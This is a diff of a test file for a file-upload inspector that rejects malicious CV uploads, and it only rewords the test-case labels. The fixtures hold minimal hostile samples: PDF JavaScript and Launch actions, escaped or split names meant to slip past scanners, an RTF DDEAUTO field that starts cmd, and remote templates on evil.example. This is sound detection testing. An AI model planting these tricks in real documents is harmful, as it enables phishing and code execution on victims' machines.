@@ -73,8 +73,8 @@ describe('inspectFile', () => {
   });
 
   it.each([
-    ['a kind that nobody asked for', 'a.gif', PNG],
-    ['no kind at all', 'README', PDF],
+    ['a kind that the form does not allow', 'a.gif', PNG],
+    ['a missing extension', 'README', PDF],
     ['a program', 'cv.pdf.exe', Buffer.from('MZ')],
     ['a macro document', 'cv.docm', docx()],
     ['a page', 'cv.html', Buffer.from('<script>')],
@@ -87,23 +87,23 @@ describe('inspectFile', () => {
   });
 
   it.each([
-    ['a program called pdf', 'cv.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
-    ['a picture called pdf', 'cv.pdf', PNG],
-    ['a pdf called txt', 'cv.txt', PDF],
-    ['bytes called txt', 'cv.txt', Buffer.from([65, 0, 66])],
+    ['a program named pdf', 'cv.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
+    ['a picture named pdf', 'cv.pdf', PNG],
+    ['a pdf named txt', 'cv.txt', PDF],
+    ['binary data named txt', 'cv.txt', Buffer.from([65, 0, 66])],
     ['an empty file', 'cv.txt', Buffer.alloc(0)],
-    ['a table called doc', 'cv.doc', oldOffice('Workbook')],
-    ['a zip called docx', 'cv.docx', zip({ 'a.txt': 'a' })],
+    ['a workbook named doc', 'cv.doc', oldOffice('Workbook')],
+    ['a zip archive named docx', 'cv.docx', zip({ 'a.txt': 'a' })],
     ['a broken archive', 'cv.docx', docx().subarray(0, 60)],
     ['a document with macros', 'cv.docx', docx({ 'word/vbaProject.bin': 'x' })],
     [
-      'a document of the macro kind',
+      'a document of a macro type',
       'cv.docx',
       docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
     ],
     ['a document with a program', 'cv.docx', docx({ 'word/embeddings/setup.exe': 'MZ' })],
     ['an old document with macros', 'cv.doc', oldOffice('WordDocument', '_VBA_PROJECT')],
-    ['a locked document', 'cv.doc', oldOffice('WordDocument', 'EncryptedPackage')],
+    ['an encrypted document', 'cv.doc', oldOffice('WordDocument', 'EncryptedPackage')],
     [
       'a pdf that runs scripts',
       'cv.pdf',
@@ -114,9 +114,9 @@ describe('inspectFile', () => {
       'cv.pdf',
       Buffer.from(PDF.toString().replace('/Catalog', '/Catalog/Launch')),
     ],
-    ['a pdf with a name in escapes', 'cv.pdf', pdf('1 0 obj<</S/J#61vaScript/#4aS(app.alert(1))>>endobj')],
+    ['a pdf with an escaped name', 'cv.pdf', pdf('1 0 obj<</S/J#61vaScript/#4aS(app.alert(1))>>endobj')],
     [
-      'a pdf with a script in a packed object',
+      'a pdf with a script in an object stream',
       'cv.pdf',
       pdf(stream('1 0 <</S/JavaScript/JS(x)>>', '/Type/ObjStm')),
     ],
@@ -125,19 +125,19 @@ describe('inspectFile', () => {
       'cv.pdf',
       pdf('1 0 obj<<>>stream\n2 0 obj<</S/Launch>>endobj\nendstream'),
     ],
-    ['a pdf with another file in it', 'cv.pdf', pdf('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj')],
-    ['a locked pdf', 'cv.pdf', pdf('1 0 obj<<>>endobj\ntrailer<</Encrypt 2 0 R>>')],
-    ['a pdf that is a bomb', 'cv.pdf', pdf(stream('0'.repeat(60_000_000)))],
-    ['a text with an object over two lines', 'cv.rtf', Buffer.from('{\\rtf1{\\obj\r\ndata 00}}')],
-    ['a text with an object in escapes', 'cv.rtf', Buffer.from("{\\rtf1{\\obj\\'64ata 00}}")],
-    ['a text with a template', 'cv.rtf', Buffer.from('{\\rtf1{\\*\\template http://evil.example/a.dot}}')],
+    ['a pdf with an embedded file', 'cv.pdf', pdf('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj')],
+    ['an encrypted pdf', 'cv.pdf', pdf('1 0 obj<<>>endobj\ntrailer<</Encrypt 2 0 R>>')],
+    ['a pdf that is a decompression bomb', 'cv.pdf', pdf(stream('0'.repeat(60_000_000)))],
+    ['an rtf with an object over two lines', 'cv.rtf', Buffer.from('{\\rtf1{\\obj\r\ndata 00}}')],
+    ['an rtf with an escaped object', 'cv.rtf', Buffer.from("{\\rtf1{\\obj\\'64ata 00}}")],
+    ['an rtf with a template', 'cv.rtf', Buffer.from('{\\rtf1{\\*\\template http://evil.example/a.dot}}')],
     [
-      'a text with a field that fetches',
+      'an rtf with a field that loads data',
       'cv.rtf',
       Buffer.from('{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd}}}'),
     ],
     [
-      'a document with a template from elsewhere',
+      'a document with an external template',
       'cv.docx',
       docx({
         'word/_rels/settings.xml.rels': relationship(
@@ -147,7 +147,7 @@ describe('inspectFile', () => {
       }),
     ],
     [
-      'a document with a picture from elsewhere',
+      'a document with an external picture',
       'cv.docx',
       docx({
         'word/_rels/document.xml.rels': relationship(
@@ -162,7 +162,7 @@ describe('inspectFile', () => {
       outside('Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"'),
     ],
     [
-      'a document whose template calls itself a link',
+      'a document whose template is declared as a link',
       'cv.docx',
       outside('Target="https://evil.example/hyperlink" TargetMode="External"'),
     ],
@@ -187,7 +187,7 @@ describe('inspectFile', () => {
       docx({ '_rels/.rels': `<!DOCTYPE a [<!ENTITY e "External">]>${relationship('image', 'Target="a"')}` }),
     ],
     [
-      'a document with a field in pieces that starts a program',
+      'a document with a split field that starts a program',
       'cv.docx',
       docx({
         'word/document.xml':
@@ -204,7 +204,7 @@ describe('inspectFile', () => {
       ),
     ],
     [
-      'a pdf with a script in a packed object of no stated type, whose checksum is wrong',
+      'a pdf with a script in an untyped object stream with a wrong checksum',
       'cv.pdf',
       pdf(
         stream('5 0 null<</S/JavaScript/JS(a)>>', '/N 1/First 4').replace(
@@ -214,7 +214,7 @@ describe('inspectFile', () => {
       ),
     ],
     [
-      'a pdf with a comment before a stream that holds a bracket',
+      'a pdf with a bracket in a comment before a stream',
       'cv.pdf',
       pdf(`4 0 obj<</Length 1>>%\nstream\n(\nendstream\nendobj\n${SCRIPT}`),
     ],
@@ -225,17 +225,17 @@ describe('inspectFile', () => {
     ],
     ['a pdf with a NUL behind a name', 'cv.pdf', pdf('1 0 obj<</S/JavaScript\0/JS\0(a)>>endobj')],
     [
-      'a pdf that keeps apart how a stream is packed',
+      'a pdf with an indirect stream filter',
       'cv.pdf',
       pdf('7 0 obj/FlateDecode endobj', '6 0 obj<</N 1/First 4/Filter 7 0 R>>stream\nx\nendstream endobj'),
     ],
     [
-      'a text with a field in pieces',
+      'an rtf with a split field',
       'cv.rtf',
       Buffer.from('{\\rtf1{\\field{\\*\\fldinst {\\b0}{D}D\\b0 EAUTO c:\\\\cmd}}}'),
     ],
     ['a document with an object', 'cv.docx', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
-    ['a text with an object', 'cv.rtf', Buffer.from('{\\rtf1{\\object\\objdata 00}}')],
+    ['an rtf with an object', 'cv.rtf', Buffer.from('{\\rtf1{\\object\\objdata 00}}')],
     ['a bomb', 'cv.docx', docx({ 'word/a.xml': '0'.repeat(5_000_000) })],
   ])('rejects %s by its content', async (_case, name, bytes) => {
     await expect(inspectFile({ name, bytes, allowed: ALLOWED })).rejects.toMatchObject({ reason: 'type' });
